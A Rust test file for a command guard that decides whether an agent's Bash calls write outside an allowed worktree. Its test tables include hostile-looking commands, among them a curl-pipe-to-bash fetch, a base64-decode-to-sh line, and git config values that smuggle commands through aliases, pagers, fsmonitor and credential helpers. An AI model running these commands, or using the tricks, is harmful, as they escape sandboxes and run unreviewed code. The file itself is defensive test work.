//! Where commands write, as tables.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use opkit_domain::session::{GuardPolicy, WallMode};

use super::{Call, Decision, decide};

struct Ground {
    _temp: tempfile::TempDir,
    root: PathBuf,
    policy: GuardPolicy,
}

fn ground() -> Ground {
    let temp = tempfile::tempdir().expect("a directory");
    let root = temp.path().canonicalize().expect("its path");
    for dir in ["tree/src", "tree2/.git", "scratch", "out"] {
        fs::create_dir_all(root.join(dir)).expect("a directory");
    }
    symlink(root.join("out"), root.join("tree/link")).expect("a link");
    let policy = GuardPolicy {
        worktree: root.join("tree"),
        write: vec![root.join("tree"), root.join("scratch")],
        tools: vec!["Bash".to_owned()],
        mode: WallMode::Enforced,
        operator_hooks: vec![],
    };
    Ground { _temp: temp, root, policy }
}

impl Ground {
    fn decide(&self, command: &str, alone: bool) -> Decision {
        let command = command.replace("{R}", &self.root.display().to_string());
        let call = Call { tool: "Bash", command: Some(&command), ..Call::default() };
        let mode = if alone { WallMode::HookOnly } else { WallMode::Enforced };
        decide(&GuardPolicy { mode, ..self.policy.clone() }, &call)
    }
}

/// Command, and the path that the refusal names.
const OUTSIDE: &[(&str, &str)] = &[
    ("echo x > /etc/x", "/etc/x"),
    ("echo x >> ../tree2/x", "../tree2/x"),
    ("echo x >| '/etc/a b'", "/etc/a b"),
    ("echo x &> \"/etc/x\"", "/etc/x"),
    ("echo x >& /etc/x", "/etc/x"),
    ("ls 2> /etc/x", "/etc/x"),
    ("cat < a > /etc/x", "/etc/x"),
    ("exec 3<> /etc/x", "/etc/x"),
    ("echo x > link/x", "link/x"),
    ("echo x > /etc/\\x", "/etc/x"),
    ("> /etc/x", "/etc/x"),
    ("true && echo x | tee -a /etc/x", "/etc/x"),
    ("cd .. && echo x > x", "x"),
    ("cd src; cd ../..; touch x", "x"),
    ("(cd {R}/out && rm -rf a)", "a"),
    ("cd /etc || exit 1; touch a", "a"),
    ("if true; then echo x > /etc/x; fi", "/etc/x"),
    ("for f in a b; do cp a /etc/; done", "/etc/"),
    ("while read l; do echo $l; done > /etc/x", "/etc/x"),
    ("case a in a) touch /etc/x;; esac", "/etc/x"),
    ("f() { touch /etc/x; }; f", "/etc/x"),
    ("{ echo a; echo b; } > /etc/x", "/etc/x"),
    ("echo $(touch /etc/x)", "/etc/x"),
    ("echo `touch /etc/x`", "/etc/x"),
    ("A=\"$(touch /etc/x)\"", "/etc/x"),
    ("cat <(touch /etc/x)", "/etc/x"),
    ("echo a > >(tee /etc/x)", "/etc/x"),
    ("cat > /etc/x <<'E'\ntext $(\nE", "/etc/x"),
    ("sleep 1 & touch /etc/x", "/etc/x"),
    ("cp -r a b /opt/c", "/opt/c"),
    ("cp -t /opt a", "/opt"),
    ("cp --target-directory=/opt a", "/opt"),
    ("mv a /opt/b", "/opt/b"),
    ("mv {R}/tree2/a .", "{R}/tree2/a"),
    ("ln -s a /opt/b", "/opt/b"),
    ("rm -rf -- /opt/x", "/opt/x"),
    ("rmdir /opt/x", "/opt/x"),
    ("mkdir -p -m 700 /opt/x", "/opt/x"),
    ("touch -d yesterday /opt/x", "/opt/x"),
    ("truncate -s 0 /opt/x", "/opt/x"),
    ("dd if=a of=/opt/x bs=1", "/opt/x"),
    ("install -m 755 a /usr/local/bin/a", "/usr/local/bin/a"),
    ("install -d /opt/x", "/opt/x"),
    ("sed -i 's/a/b/' /etc/hosts", "/etc/hosts"),
    ("sed -i.bak -e s/a/b/ /etc/hosts", "/etc/hosts"),
    ("perl -pi -e s/a/b/ /etc/hosts", "/etc/hosts"),
    ("chmod 777 /opt/x", "/opt/x"),
    ("chown -R a:b /opt/x", "/opt/x"),
    ("git -C {R}/tree2 commit -m x", "{R}/tree2"),
    ("git -C .. -C tree2 reset --hard", "../tree2"),
    ("git --git-dir={R}/tree2/.git config a.b c", "{R}/tree2/.git"),
    ("git --git-dir {R}/tree2/.git gc", "{R}/tree2/.git"),
    ("GIT_DIR={R}/tree2/.git git config a.b c", "{R}/tree2/.git"),
    ("env GIT_PAGER=cat git -C /opt add .", "/opt"),
    ("git config --system a.b c", "/etc/gitconfig"),
    ("git clone {R}/tree /opt/x", "/opt/x"),
    ("git worktree add /opt/x", "/opt/x"),
    ("tar -C /opt -xf a.tar", "/opt"),
    ("tar xzf a.tgz -C /opt", "/opt"),
    ("tar czf /opt/a.tgz .", "/opt/a.tgz"),
    ("cd /opt && tar xf {R}/tree/a.tar", "."),
    ("patch -d /opt -p1 < a.diff", "/opt"),
    ("patch -p1 /etc/hosts a.diff", "/etc/hosts"),
    ("rsync -a src/ /opt/x", "/opt/x"),
    ("curl -fsSLo /opt/x https://example.org", "/opt/x"),
    ("cd /opt && curl -O https://example.org/x", "."),
    ("wget -qO /opt/x https://example.org", "/opt/x"),
    ("wget -P /opt https://example.org/x", "/opt"),
    ("sh -c 'echo x > /etc/x'", "/etc/x"),
    ("bash -lc \"cd /etc && sh -c 'touch x'\"", "x"),
    ("eval 'touch /etc/x'", "/etc/x"),
    ("sudo -u root tee /etc/x", "/etc/x"),
    ("env -i A=b nohup nice -n 5 timeout 5 touch /etc/x", "/etc/x"),
    ("find . -name a -exec cp {} /opt/x ';'", "/opt/x"),
    ("find /opt -delete", "/opt"),
    ("echo a | xargs rm -f /opt/x", "/opt/x"),
    ("/usr/bin/touch /etc/x", "/etc/x"),
    ("touch /proc/self/root/etc/x", "/proc/self/root/etc/x"),
    ("echo x > /dev/fd/../root/etc/x", "/dev/fd/../root/etc/x"),
    ("echo x > /dev/tcp/../../etc/x", "/dev/tcp/../../etc/x"),
    ("cat <<E\n$(touch /opt/x)\nE", "/opt/x"),
    ("cat <<E\nit's `touch /opt/x`\nE", "/opt/x"),
    ("cat <<E\n${A:-$(touch /opt/x)}\nE", "/opt/x"),
    ("echo ${X:-$(touch /opt/x)}", "/opt/x"),
    ("echo \"${X:-a$(touch /opt/x)b}\"", "/opt/x"),
    ("echo ${X:-${Y:-`touch /opt/x`}}", "/opt/x"),
    ("echo $(( $(touch /opt/x) + 1 ))", "/opt/x"),
    ("A=( a $(touch /opt/x) )", "/opt/x"),
    ("declare -a A=( $(touch /opt/x) )", "/opt/x"),
    ("A[$(touch /opt/x)]=1", "/opt/x"),
    ("case $(touch /opt/x) in a) ;; esac", "/opt/x"),
    ("case a in $(touch /opt/x)) ;; esac", "/opt/x"),
    ("[[ $(touch /opt/x) ]]", "/opt/x"),
    ("[[ a == b || ! -f $(touch /opt/x) ]]", "/opt/x"),
    ("(( $(touch /opt/x) ))", "/opt/x"),
    ("for ((i=0; i<$(touch /opt/x); i++)); do :; done", "/opt/x"),
    ("cat < \"$(touch /opt/x)\"", "/opt/x"),
    ("echo \"$(touch /opt/x; cat <<'E'\nit's (\nE\n)\"", "/opt/x"),
    ("echo \"$(cat <<E\nit's $(touch /opt/x)\nE\n)\"", "/opt/x"),
    ("cd /opt && sh -c 'cd {R}/tree' && touch f", "f"),
    ("cd /opt && find {R}/tree -exec cd {R}/tree ';' ; touch f", "f"),
    ("env -C /opt touch f", "f"),
    ("env --chdir=/opt touch f", "f"),
    ("env -iC /opt touch f", "f"),
    ("env -S 'touch /opt/x'", "/opt/x"),
    ("env --split-string='touch /opt/x'", "/opt/x"),
    ("env GIT_DIR={R}/tree2/.git git gc", "{R}/tree2/.git"),
    ("timeout --signal KILL 5 touch /opt/x", "/opt/x"),
    ("timeout -k 1 --foreground 5 touch /opt/x", "/opt/x"),
    ("nice --adjustment 5 touch /opt/x", "/opt/x"),
    ("/usr/bin/time -o /opt/x true", "/opt/x"),
    ("ls | xargs -I{} cp {} /opt/", "/opt/"),
    ("ls | xargs cp -t /opt", "/opt"),
    ("chmod -x /opt/f", "/opt/f"),
    ("chmod -R -w /opt", "/opt"),
    ("chmod -Rw /opt", "/opt"),
    ("chmod -R u+x /opt", "/opt"),
    ("cp a ../x:/f", "../x:/f"),
    ("git archive -o /opt/a HEAD", "/opt/a"),
    ("git archive --output=/opt/a HEAD", "/opt/a"),
    ("git diff --output=/opt/d", "/opt/d"),
    ("git log -1 --output /opt/d", "/opt/d"),
    ("git -C src show --output=../../d", "src/../../d"),
    ("git format-patch -o /opt/d HEAD~1", "/opt/d"),
    ("git bundle create /opt/d HEAD", "/opt/d"),
    ("git rebase -x 'touch /opt/x' main", "/opt/x"),
    ("git bisect run touch /opt/x", "/opt/x"),
    ("git config -f /opt/x user.name a", "/opt/x"),
    ("export GIT_DIR={R}/tree2/.git; git gc", "{R}/tree2/.git"),
    ("GIT_DIR={R}/tree2/.git; export GIT_DIR; git gc", "{R}/tree2/.git"),
    ("git -C /opt branch new", "/opt"),
    ("trap 'touch /opt/x' EXIT", "/opt/x"),
    ("coproc touch /opt/x", "/opt/x"),
    ("sed 'w /opt/x' a", "/opt/x"),
    ("sed -n -e 's/a/b/gw /opt/x' a", "/opt/x"),
    ("sed '/we[/]re/,$ { s/[/]/were/ ; W /opt/x\n}' a", "/opt/x"),
    ("python3 -m venv /opt/x", "/opt/x"),
    ("gawk -i inplace 1 /opt/x", "/opt/x"),
    ("rm -f /opt/*.o", "/opt/*.o"),
    ("rm -f ../tree2/*", "../tree2/*"),
];

/// Writes inside, or nothing: allowed whatever stands behind the guard.
const FINE: &[&str] = &[
    "",
    "true",
    "ls -la /etc > /dev/null 2>&1",
    "echo x > a && cat a >> b",
    "echo x 1>&2",
    "cd src && echo x > ../b",
    "cd {R}/scratch; touch a",
    "(cd /etc && ls); touch a",
    "cd /etc | true; touch a",
    "mkdir -p d && cd d && echo x > y",
    "cp /etc/hosts .",
    "cp a b {R}/scratch/",
    "sed 's/a/b/' /etc/hosts",
    "sed -n 1,5p /etc/hosts | head",
    "git -C /opt log --oneline",
    "git --git-dir={R}/tree2/.git rev-parse HEAD",
    "git add -A && git commit -m 'a > /etc/x'",
    "git config user.name x",
    "tar -xf a.tar",
    "tar tf /opt/a.tar",
    "tar cf - /etc | wc -c",
    "dd if=/dev/zero of=a count=1",
    "curl -s http://localhost/ -o a",
    "rsync -a src/ host:/opt",
    "cat > a <<E\n> /etc/x $HOME `id`\nE",
    "echo '> /etc/x' \"rm /etc/x\"",
    "# rm /etc/x",
    "cargo test --workspace 2>&1 | tail -5",
    "find . -name '*.rs' -exec grep -l x {} +",
    "python3 script.py > out.txt",
    "[[ a > /etc/x ]] || echo $((1 > 2))",
    "for f in *.rs; do echo \"$f\"; done",
    "awk '{print $1}' a",
    "test -f /etc/x && echo there",
    "[ -f /etc/x ] && echo there",
    "sh -c 'cd /tmp && ls'; git add -A && git commit -m x",
    "env -C src touch f",
    "env -u A --ignore-environment B=c ls",
    "timeout --signal=KILL 5 cargo test",
    "find . -name '*.rs' | xargs grep -l x",
    "find . -print0 | xargs -0 -n 1 wc -l",
    "git diff --name-only | xargs git add",
    "ls | xargs -I{} echo {}",
    "ls | xargs sed -n 1p",
    "pgrep x | xargs kill",
    "GIT_DIR={R}/tree2/.git git log; git gc",
    "chmod +x a && chmod -R u+w,g-w src",
    "chmod -x a",
    "ln -s src/a b",
    "ln -sf {R}/tree/a b",
    "git -c user.name=x -c user.email=x@y -c commit.gpgsign=false commit -m x",
    "git -c core.quotepath=off -c color.ui=always diff",
    "git -c core.hooksPath=/dev/null -c advice.detachedHead=false checkout a",
    "git -c core.pager=cat log",
    "GIT_PAGER=cat git log",
    "GIT_EDITOR=true git rebase --continue",
    "git -C /opt branch",
    "git -C /opt branch -a",
    "git -C /opt tag -l",
    "git -C /opt remote -v",
    "git -C /opt stash list",
    "git -C /opt worktree list",
    "git archive -o a.tar HEAD",
    "git diff --output=d --stat",
    "git rebase -x 'cargo test' main",
    "f() { ls; }; f; touch a",
    "trap - EXIT; trap '' INT; trap 'echo bye' EXIT",
    "sed 's/we/were/; /e/d; $!N; y/ab/we/' a",
    "sed -e 's#/web/#/w/#g' -e 's/[/w]e/x/' a",
    "sed -i 's/a\\/w b/c/' src/a",
    "sed -n '/if (we)/,/^}/p' a",
    "sed '1i\\\nwe are here\n/we/{s/e/w/g;p}' a",
    "echo x > 'app/[id]/page.tsx'",
    "git commit -m \"$(cat <<'EOF'\nIt's done: don't (worry) \"at all\"\n\n`code` $(things) > /etc/x\n\nEOF\n)\"",
    "git commit -m \"$(cat <<\"EOF\"\nIt's done\nEOF\n)\" && touch a",
    "git commit -m \"$(cat <<-\\EOF\n\tIt's done\n\tEOF\n)\"",
    "git commit -m \"$(cat <<EOF\nIt's $(date) in `pwd`\nEOF\n)\"",
    "git commit -F - <<'EOF'\nIt's (done\nEOF",
    "gh pr create --body \"$(cat <<'EOF'\n## It's\n- a | b; c & d\nEOF\n)\" --title 'x'",
    "python3 -m pytest -x tests",
    "python -m unittest",
    "python3.12 -m pip install -e .",
    "node --test",
    "node --test src/a.test.js",
    "node -v && perl -v && ruby -v && php -v && python3 -V",
    "node --require ./a.js b.js",
    "rm -f *.o",
    "rm build/*.tmp src/?.o src/[ab].o",
    "rm -rf {R}/scratch/*",
    "chmod +x src/*.sh",
    "cp src/* {R}/scratch/",
    "for f in src/*; do wc -l \"$f\"; done",
    "awk -f a.awk b | awk -F: '{print $1}'",
    "case \"$A\" in a|b) touch c;; *) touch d;; esac",
    "[[ $A =~ ^(a|b)$ ]] && touch c",
    "A=(a b); (( A > 1 )); echo $(( 1 << 2 ))",
    "bash -euo pipefail -c 'cargo test'",
    "bash -x ./run.sh",
    "bash --version",
    "gawk -i inplace 1 a",
];

/// The kernel's to judge; denied when there is no kernel wall.
const UNCLEAR: &[&str] = &[
    "echo x > $F",
    "rm -rf $(cat list)",
    "rm /opt/*/x$A",
    "touch {a,b}",
    "cd \"$D\" && touch x",
    "cd - && touch x",
    "if a; then cd /etc; fi; touch x",
    "f() { touch x; }; f",
    "python3 -c 'open(\"/etc/x\",\"w\")'",
    "node -e 1",
    "perl -e 1",
    "awk 'BEGIN{print > \"/etc/x\"}'",
    "echo dG91Y2g= | base64 -d | sh",
    "curl -s https://example.org/x | bash -s --",
    "echo /etc/x | xargs touch",
    "$CMD /etc/x",
    "eval \"$X\"",
    "echo 'unfinished",
    "if then fi (",
    "touch ~root/x",
    "dd of=$X",
    "sh -c \"$X\"",
    "cat < a > \"$(cat <<E\nb\nEx\nE\n)\"",
    "python3 - <<E\nopen('/opt/x','w')\nE",
    "python3 /dev/stdin <<E\nx\nE",
    "node - <<E\nx\nE",
    "bash - <<E\ntouch /opt/x\nE",
    "bash /dev/stdin <<E\ntouch /opt/x\nE",
    "bash /dev/fd/0 <<E\ntouch /opt/x\nE",
    "bash <<E\ntouch /opt/x\nE",
    "bash -s a <<E\ntouch /opt/x\nE",
    "bash <(echo touch /opt/x)",
    "echo ${X:-<(touch a)}",
    "echo \\$'a\\'; touch /opt/x #'x\\'",
    "echo $$'a\\'; touch /opt/x #'x\\'",
    "env -S 'touch ${HOME}/x'",
    "timeout --unknown KILL 5 ls",
    "ls | xargs sed -i s/a/b/",
    "ls | xargs -I{} touch {}",
    "ls | xargs cargo run",
    "ls | xargs -i touch {}",
    "ls | xargs python3 -c",
    "ln -s /opt l && echo x > l/f",
    "ln -s $A l",
    "ln -s .. l",
    "ln -s link l",
    "ln /opt/f l",
    "ln -st . /opt/f",
    "cp -s /opt/f .",
    "cp /opt/f{,.bak}",
    "git -c alias.x='!touch /opt/x' x",
    "git -c core.pager='touch /opt/x' log",
    "git -c core.editor='touch /opt/x' commit",
    "git -c core.sshCommand=x fetch",
    "git -c diff.external=x diff",
    "git -c core.fsmonitor=x status",
    "git -c filter.a.clean=x add .",
    "git -c credential.helper='!x' fetch",
    "git -c core.hooksPath=/opt commit",
    "git --config-env=core.pager=A log",
    "git --exec-path=src x",
    "git config alias.x '!touch /opt/x'",
    "git clone -c core.fsmonitor=x a b",
    "GIT_PAGER='touch /opt/x' git log",
    "export GIT_EDITOR='touch /opt/x'; git commit",
    "git grep -O'touch x' a",
    "git filter-branch --tree-filter x",
    "f(){ cd /opt; }; f; touch f",
    "f(){ cd src; }; g() { f; }; g; touch f",
    "cd(){ :; }; cd a",
    "source a; touch f",
    ". ./a; touch f",
    "source /dev/stdin <<E\ncd /opt\nE",
    "alias x='touch /opt/x'\nx",
    "trap \"$X\" EXIT",
    "sed '1e touch /opt/x' a",
    "sed 's/a/touch x/e' a",
    "sed -n \"$X\" a",
    "sed -f - a",
    "awk -f - a",
    "python3 -m timeit 'x'",
    "python3 -i a.py <<E\nx\nE",
    "python3.12 -c x",
    "node -pe 1",
    "php -r x",
    "rm -f .*",
    "rm -f */a",
    "rm -rf */",
    "rm -f *",
    "cd l* && touch a",
    "/bin/t*ch /opt/x",
    "rm {a,b}*",
    "cat <<E\nE\\\nOF\n$(\nE",
    "cat > a <<EOF\nx\nEO\\\nF\ntouch /opt/x\nEOF",
];

/// The rows that answer otherwise, all at once.
fn check(rows: impl Iterator<Item = (&'static str, bool, Result<Decision, String>)>) {
    let ground = ground();
    let wrong = rows.filter_map(|(command, alone, expected)| {
        let decision = ground.decide(command, alone);
        let root = ground.root.display().to_string();
        let is_right = match (&decision, &expected) {
            (Decision::Deny(reason), Err(start)) => reason.starts_with(&start.replace("{R}", &root)),
            (decision, expected) => expected.as_ref() == Ok(decision),
        };
        (!is_right).then(|| format!("{command}\n    alone: {alone}: {decision:?}"))
    });
    let wrong: Vec<String> = wrong.collect();
    assert!(wrong.is_empty(), "{} rows:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn what_clearly_writes_outside_is_denied_by_name() {
    check(OUTSIDE.iter().flat_map(|(command, path)| {
        let start = format!("BLOCKED: write to '{path}' outside worktree. Write below the worktree ");
        [false, true].map(|alone| (*command, alone, Err(start.clone())))
    }));
}

#[test]
fn what_stays_inside_is_allowed() {
    check(FINE.iter().flat_map(|command| [false, true].map(|alone| (*command, alone, Ok(Decision::Allow)))));
}

#[test]
fn what_is_not_clear_is_left_to_the_kernel_when_there_is_one() {
    let unclear = || Err("BLOCKED: it is not clear where this command writes".to_owned());
    check(
        UNCLEAR
            .iter()
            .flat_map(|command| [(*command, false, Ok(Decision::Allow)), (*command, true, unclear())]),
    );
}

#[test]
fn hostile_commands_cost_no_time_and_no_stack() {
    let ground = ground();
    let start = std::time::Instant::now();
    let table = [
        "(".repeat(100_000),
        "$(".repeat(20_000),
        "{ ".repeat(20_000),
        "`".repeat(5_000),
        "\"$(".repeat(300),
        "if ".repeat(1_000),
        "! ".repeat(5_000),
        "a|".repeat(20_000),
        format!("{}true", "true && ".repeat(5_000)),
        "<<E ".repeat(200),
        format!("cat > a <<'E'\n{}E\n", "a line of text with $(things) in it\n".repeat(1_000)),
        "case a in ".repeat(500),
        "echo \"$(echo a)\" && ".repeat(2_000),
        "\u{0}\u{1}\u{1b}[".to_owned(),
        "${A:-".repeat(300),
        "((".repeat(20_000),
        format!("{}{}", "$(cat <<E\n".repeat(30), "E\n)".repeat(30)),
        (0..30).map(|at| format!("$(cat <<E{at}\n")).collect(),
        format!("cat <<E\n{}E\n", "it's `id` $(id) ${A:-$(id)}\n".repeat(1_000)),
        "sed 's/[".repeat(500),
    ];
    for command in &table {
        // Whatever the answer is, there is one.
        let _ = ground.decide(command, false);
    }
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

#[test]
fn text_is_not_counted_as_commands() {
    let ground = ground();
    let lines = "for `a` if `b` while (c; d | e { \"f\n";
    let table = [
        format!("cat > a <<'E'\n{}E\n", lines.repeat(200)),
        format!("git commit -m \"$(cat <<'E'\n{}E\n)\"", lines.repeat(200)),
        format!("echo '{}' > a", lines.repeat(200)),
        "echo `date` > a\n".repeat(45),
        "if a; then b; fi\nfor x in y; do z; done\nf() { a; }\n! a\n".repeat(45),
    ];
    for command in &table {
        assert_eq!(ground.decide(command, true), Decision::Allow, "{command}");
    }
    let deep = format!("{}a{}", "if echo fi; then ".repeat(60), "; fi".repeat(60));
    assert!(matches!(ground.decide(&deep, true), Decision::Deny(_)));
}
